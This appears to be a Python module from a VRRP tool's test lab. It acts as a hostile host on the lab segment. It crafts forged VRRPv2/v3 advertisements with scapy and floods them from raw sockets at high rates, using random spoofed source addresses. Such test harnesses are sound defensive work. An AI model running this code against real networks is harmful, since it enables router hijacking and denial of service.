"""A hostile host on the lab's segment: VRRP adverts crafted with scapy, sent from a raw socket.

Each packet is built by scapy (IP + VRRP/VRRPv3 layers, checksums by scapy); floods patch the
IPv4 source of one scapy-built template (the kernel refills the IP header checksum of an
IP_HDRINCL socket; a VRRPv3 checksum is updated incrementally, RFC 1624) so 100,000 packets
take seconds, not minutes. The sending runs as `python -m vrrptui.lab.hostile` inside the
attacker's namespace.
"""

from __future__ import annotations

import ipaddress
import json
import random
import socket
import sys
import time

from scapy.layers.inet import IP
from scapy.layers.vrrp import VRRP, VRRPv3
from scapy.packet import raw

from vrrptui.lab.netns import VIP, Lab

MCAST = "224.0.0.18"


def v3_advert(src: str, dst: str, *, vrid: int = 51, priority: int, ttl: int = 255, interval_cs: int = 10) -> bytes:
    return raw(IP(src=src, dst=dst, ttl=ttl, proto=112, tos=0xC0)
               / VRRPv3(vrid=vrid, priority=priority, ipcount=1, adv=interval_cs, addrlist=[VIP]))


def v2_advert(src: str, dst: str, *, vrid: int = 51, priority: int, password: bytes, ttl: int = 255) -> bytes:
    auth = password.ljust(8, b"\0")
    return raw(IP(src=src, dst=dst, ttl=ttl, proto=112, tos=0xC0)
               / VRRP(vrid=vrid, priority=priority, ipcount=1, addrlist=[VIP], authtype=1, adv=1,
                      auth1=int.from_bytes(auth[:4], "big"), auth2=int.from_bytes(auth[4:], "big")))


def _checksum_update(checksum: bytes | bytearray, old: bytes | bytearray, new: bytes) -> bytes:
    """RFC 1624: the internet checksum after `old` (16-bit aligned words) became `new`."""
    total = ~int.from_bytes(checksum, "big") & 0xFFFF
    for i in range(0, len(old), 2):
        total += (~int.from_bytes(old[i:i + 2], "big") & 0xFFFF) + int.from_bytes(new[i:i + 2], "big")
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return (~total & 0xFFFF).to_bytes(2, "big")


def flood(packet: bytes, count: int, rate: float, seed: int = 1) -> tuple[int, float]:
    """Send `count` copies of the IPv4 `packet` at about `rate` per second, from the namespace we run in;
    with count > 1 each copy comes from a random 10/8 source. Returns (sent, seconds)."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        rng = random.Random(seed)
        dst = socket.inet_ntoa(packet[16:20])
        data = bytearray(packet)
        data[10:12] = b"\0\0"  # the kernel fills in the header checksum
        pseudo = data[20] >> 4 == 3  # a VRRPv3 checksum covers the source (pseudo-header)
        chunk = max(1, int(rate / 100))
        sent = 0
        start = time.monotonic()
        for i in range(count):
            if count > 1:
                source = ipaddress.IPv4Address(0x0A000000 | rng.getrandbits(24)).packed
                if pseudo:
                    data[26:28] = _checksum_update(data[26:28], data[12:16], source)
                data[12:16] = source
            try:
                sock.sendto(data, (dst, 0))
            except OSError:  # ENOBUFS under load: a flood is best effort
                continue
            sent += 1
            if i % chunk == chunk - 1 and i + 1 < count:  # paced between packets; none to wait for after the last
                ahead = start + (i + 1) / rate - time.monotonic()
                if ahead > 0:
                    time.sleep(ahead)
        return sent, time.monotonic() - start


class Attacker:
    """A host on the lab's segment that sends what it is given (each call runs inside its namespace)."""

    def __init__(self, lab: Lab, node: str) -> None:
        self.lab, self.node = lab, node
        lab.exec(node, ["ip", "route", "replace", "224.0.0.0/4", "dev", lab.iface(node)], check=True)
        self.sent = 0

    def send(self, packet: bytes) -> None:
        self.send_each([packet], 0.0)

    def send_each(self, packets: list[bytes], gap: float) -> None:
        """Each of `packets` once, in order, `gap` seconds apart (one process for them all)."""
        argv = [sys.executable, "-m", "vrrptui.lab.hostile", "--each", str(gap), *(p.hex() for p in packets)]
        done = self.lab.exec(self.node, argv, check=True)
        self.sent += json.loads(done.stdout)["sent"]

    def flood(self, packet: bytes, count: int, rate: float, seed: int = 1) -> float:
        """`count` copies of `packet` (random sources when more than one) at about `rate`/s; returns seconds."""
        argv = [sys.executable, "-m", "vrrptui.lab.hostile", packet.hex(), str(count), str(rate), str(seed)]
        done = self.lab.exec(self.node, argv, check=True)
        result = json.loads(done.stdout)
        self.sent += result["sent"]
        return float(result["seconds"])


def send_each(packets: list[bytes], gap: float) -> int:
    """Each IPv4 packet once, in order, `gap` seconds apart, from the namespace we run in. Returns how many."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        for i, packet in enumerate(packets):
            if i:
                time.sleep(gap)
            sock.sendto(packet, (socket.inet_ntoa(packet[16:20]), 0))
    return len(packets)


def main(argv: list[str]) -> int:
    if len(argv) >= 2 and argv[0] == "--each":
        print(json.dumps({"sent": send_each([bytes.fromhex(h) for h in argv[2:]], float(argv[1]))}))
        return 0
    if len(argv) != 4:
        print("usage: python -m vrrptui.lab.hostile PACKET_HEX COUNT RATE SEED | --each GAP PACKET_HEX... "
              "(inside a lab namespace)", file=sys.stderr)
        return 2
    sent, seconds = flood(bytes.fromhex(argv[0]), int(argv[1]), float(argv[2]), int(argv[3]))
    print(json.dumps({"sent": sent, "seconds": seconds}))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
